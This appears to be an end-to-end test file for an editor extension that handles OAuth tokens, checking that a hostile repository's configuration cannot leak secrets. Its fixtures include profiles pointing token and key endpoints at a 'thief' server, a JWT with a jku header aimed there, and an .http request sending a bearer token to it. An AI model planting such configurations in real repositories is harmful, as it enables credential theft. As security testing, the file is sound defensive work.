import assert from 'node:assert/strict';
import { mkdir, writeFile } from 'node:fs/promises';
import { createServer, type Server as HttpServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import type { Workbench } from '../host/workbench';
import { defaultHost, startServer, type Server } from '../server/server';
import { startHolding, type Holding } from '../support/holding';
import { jwt } from '../support/jwts';
import { startThief, type Thief } from '../support/thief';
import { dismiss, notification, row } from './actions';
import { openBefore } from './window';

/** A provider whose metadata name another host's token endpoint, and the paths that it was asked for. */
async function startNaming(thief: string): Promise<{ issuer: string; reached: string[]; server: HttpServer }> {
  const reached: string[] = [];
  const server = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.setHeader('content-type', 'application/json');
    response.end(
      JSON.stringify({ issuer, authorization_endpoint: `${issuer}/authorize`, token_endpoint: `${thief}/token` }),
    );
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const issuer = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { issuer, reached, server };
}

describe('a hostile repository, clicked', () => {
  let server: Server;
  let thief: Thief;
  let naming: Awaited<ReturnType<typeof startNaming>>;
  let holding: Holding;
  let workbench: Workbench;

  const profiles = (more: object = {}) => {
    const { issuer, clients } = server.tenants.keycloak;
    const login = { grant: 'authorization_code', clientAuth: 'none', clientId: 'c' };
    const machine = { grant: 'client_credentials', issuer, clientId: clients.m2m?.clientId };
    return [
      { ...machine, id: 'changing', name: 'Changing', ...more },
      {
        ...{ ...machine, id: 'prompted', name: 'Prompted', audience: 'another' },
        ...{ endpoints: { jwks: `${thief.origin}/jwks` }, origins: [thief.origin] },
      },
      { ...login, id: 'naming', name: 'Naming another', issuer: naming.issuer },
      { ...login, id: 'copied', name: 'Copied', issuer: naming.issuer, clientId: 'another' },
      { ...login, id: 'silent', name: 'Silent', issuer: 'http://127.0.0.1:1' },
      { ...machine, issuer: undefined, id: 'held', name: 'Held', endpoints: { token: holding.address } },
      { ...login, id: 'theirs', name: 'All theirs', issuer: thief.origin, redirect: 'paste' },
    ];
  };
  const write = (more: object = {}) =>
    writeFile(
      path.join(opened.folder, '.vscode/token-deck.json'),
      JSON.stringify({ version: 1, profiles: profiles(more) }),
    );
  const secret = () => server.tenants.keycloak.clients.m2m?.clientSecret ?? '';

  const opened = openBefore(async (folder) => {
    server = await startServer();
    // The browser opens a page of it.
    thief = await startThief(defaultHost());
    naming = await startNaming(thief.origin);
    holding = await startHolding();
    await mkdir(path.join(folder, '.vscode'));
    await writeFile(path.join(folder, '.vscode/token-deck.json'), JSON.stringify({ version: 1, profiles: profiles() }));
    return undefined;
  });
  before(async () => {
    ({ workbench } = opened);
    await workbench.openView('Token Deck');
  });
  after(async () => {
    naming.server.close();
    await holding.close();
    await thief.close();
    await server.close();
  });

  const refused = async () => {
    await notification(workbench, /have not allowed this folder’s profile/);
    await dismiss(workbench);
  };

  const copies = async () => (await workbench.treeRows()).filter((text) => text.includes('(copy)'));

  it('shows in the prompt for a secret every host and origin that typing it allows', async () => {
    await workbench.clickTreeAction('Prompted', 'Get Token');
    await workbench.quickInput.opened('Client Secret');
    const text = await workbench.quickInput.message();
    for (const part of [
      `The folder’s profile also contacts ${thief.origin}/jwks (keys).`,
      'Audience: another',
      `Its token may be sent to: ${thief.origin}`,
    ])
      assert.ok(text.includes(part), text);
    await workbench.screenshot('hostile-repository-secret');
    await workbench.page.keyboard.press('Escape');
    assert.deepEqual(thief.reached, []);
  });

  it('is asked about again when it changes what was allowed', async () => {
    await workbench.clickTreeAction('Changing', 'Get Token');
    await workbench.quickInput.opened('Client Secret');
    await workbench.quickInput.submit(secret());
    await row(workbench, 'Changing', /valid/);
    await dismiss(workbench);
    const before = server.requests.length;
    for (const [more, shown] of [
      [{ origins: [thief.origin] }, `Its token may be sent to: ${thief.origin}`],
      [{ endpoints: { jwks: `${thief.origin}/jwks` } }, `${thief.origin} (keys)`],
      [{ params: { token: { tier: 'gold' } } }, 'Token request: tier=gold'],
    ] as const) {
      await write({ ...more, name: `Changing ${shown.slice(0, 15)}` });
      await row(workbench, `Changing ${shown.slice(0, 15)}`, /./);
      // By the palette: a click can miss a row that is being drawn again.
      await workbench.runCommand('Token Deck: Get Token');
      await workbench.quickInput.opened();
      await workbench.quickInput.pick(`Changing ${shown.slice(0, 15)}`);
      const text = await workbench.dialogText();
      assert.ok(text.includes(shown), text);
      await workbench.page.keyboard.press('Escape');
      await workbench.page.locator('.monaco-dialog-box').waitFor({ state: 'detached' });
    }
    assert.deepEqual([thief.reached, server.requests.length], [[], before]);
    await write();
    await row(workbench, 'Changing', /valid/);
  });

  it('asks once more about a host that only metadata name, and sends nothing there after a no', async () => {
    await workbench.clickTreeAction('Naming another', 'Get Token');
    assert.ok((await workbench.dialogText()).includes(`${naming.issuer} (issuer)`));
    await workbench.clickDialog('Allow');
    const further = workbench.page.locator('.monaco-dialog-box', { hasText: 'contact other hosts' });
    await further.waitFor();
    assert.ok((await further.innerText()).includes(thief.origin));
    await workbench.screenshot('hostile-repository-hosts');
    await workbench.clickDialog('Never');
    await refused();
    assert.deepEqual([thief.reached, naming.reached], [[], ['/.well-known/openid-configuration']]);
  });

  it('keeps its refused hosts refused: a profile that names one by metadata is not copied', async () => {
    await workbench.treeMenu('Naming another', 'Keep a Personal Copy');
    await refused();
    assert.deepEqual(await copies(), []);
    assert.deepEqual(thief.reached, []);
  });

  it('is asked about hosts that only metadata name before a profile is copied', async () => {
    const further = workbench.page.locator('.monaco-dialog-box', { hasText: 'contact other hosts' });
    await workbench.treeMenu('Copied', 'Keep a Personal Copy');
    assert.ok((await workbench.dialogText()).includes(`${naming.issuer} (issuer)`));
    await workbench.clickDialog('Allow');
    await further.waitFor();
    assert.ok((await further.innerText()).includes(thief.origin));
    await workbench.clickDialog('Cancel');
    await further.waitFor({ state: 'detached' });
    assert.deepEqual(await copies(), []);
    await workbench.treeMenu('Copied', 'Keep a Personal Copy');
    await further.waitFor();
    await workbench.clickDialog('Allow');
    for (const asked of ['ID of the copy of Copied', 'Name of the copy of Copied']) {
      await workbench.quickInput.opened(asked);
      await workbench.page.keyboard.press('Enter');
    }
    await row(workbench, 'Copied (copy)', /./);
    assert.deepEqual([(await copies()).length, thief.reached], [1, []]);
  });

  it('gains nothing by an issuer that does not answer while a profile is copied', async () => {
    await workbench.treeMenu('Silent', 'Keep a Personal Copy');
    await workbench.dialogText();
    await workbench.clickDialog('Allow');
    await notification(workbench, /Silent: It was not copied: you must be asked about all hosts of its issuer first\./);
    await dismiss(workbench);
    assert.equal((await copies()).length, 1);
  });

  it('cannot have a token copied of a profile that it removes while the token is requested', async () => {
    await workbench.runCommand('Token Deck: Copy Token');
    await workbench.quickInput.opened();
    await workbench.quickInput.pick('Held');
    await workbench.quickInput.opened('Client Secret');
    await workbench.quickInput.submit('a-secret-that-was-typed');
    await holding.asked;
    const others = profiles().filter(({ id }) => id !== 'held');
    await writeFile(
      path.join(opened.folder, '.vscode/token-deck.json'),
      JSON.stringify({ version: 1, profiles: others }),
    );
    holding.answer();
    await notification(workbench, /Held: The profile was removed or changed while its token was requested/);
    await dismiss(workbench);
    assert.notEqual(await workbench.clipboard(), 'held-token');
  });

  it('reaches its own server only after a yes, and then with nothing of the user’s', async () => {
    assert.deepEqual(thief.reached, []);
    await workbench.clickTreeAction('All theirs', 'Get Token');
    assert.ok((await workbench.dialogText()).includes(`${thief.origin} (issuer)`));
    const page = await workbench.newTab(() => workbench.clickDialog('Allow'));
    await page.waitForURL(`${thief.origin}/authorization?**`);
    await page.close();
    await workbench.quickInput.opened('Paste the Address');
    await workbench.page.keyboard.press('Escape');
    const [discovery = '', ...others] = thief.reached;
    assert.ok(discovery.startsWith('GET /.well-known/openid-configuration'), discovery);
    for (const request of [discovery, ...others]) {
      assert.doesNotMatch(request, /"authorization":|code_verifier/);
      assert.ok(!request.includes(secret()));
    }
  });
});

describe('a hostile repository that is not trusted', () => {
  let thief: Thief;
  let workbench: Workbench;

  const opened = openBefore(async (folder) => {
    thief = await startThief();
    const token = jwt(
      { iss: thief.origin, sub: 'hostile', exp: 4_000_000_000 },
      { alg: 'RS256', jku: `${thief.origin}/jwks` },
    );
    const profile = { id: 'theirs', grant: 'client_credentials', issuer: thief.origin, clientId: 'c' };
    await mkdir(path.join(folder, '.vscode'));
    const files = {
      '.vscode/token-deck.json': JSON.stringify({ version: 1, profiles: [profile] }),
      '.vscode/settings.json': JSON.stringify({ 'tokenDeck.automation': 'allow', 'tokenDeck.jwt.allowNetwork': 'ask' }),
      'call.http': `GET ${thief.origin}/api\nAuthorization: Bearer {{$processEnv TOKEN_DECK_THEIRS}}\n`,
      'notes.txt': `${token}\n`,
    };
    for (const [name, text] of Object.entries(files)) await writeFile(path.join(folder, name), text);
    return {
      settings: {
        'security.workspace.trust.enabled': true,
        'security.workspace.trust.startupPrompt': 'never',
        'security.workspace.trust.banner': 'never',
        'security.workspace.trust.untrustedFiles': 'open',
      },
    };
  });
  before(() => ({ workbench } = opened));
  after(() => thief.close());

  it('has no profiles, and nothing is sent by opening its files and hovering over its tokens', async () => {
    for (const name of ['call.http', 'token-deck.json', 'settings.json', 'notes.txt']) await workbench.openFile(name);
    assert.match(await workbench.hoverText('eyJ'), /decoded, not verified[^]*hostile/);
    await workbench.openView('Token Deck');
    await workbench.page.getByRole('button', { name: 'Manage Workspace Trust' }).waitFor();
    assert.deepEqual([await workbench.treeRows(), thief.reached], [[], []]);
  });
});
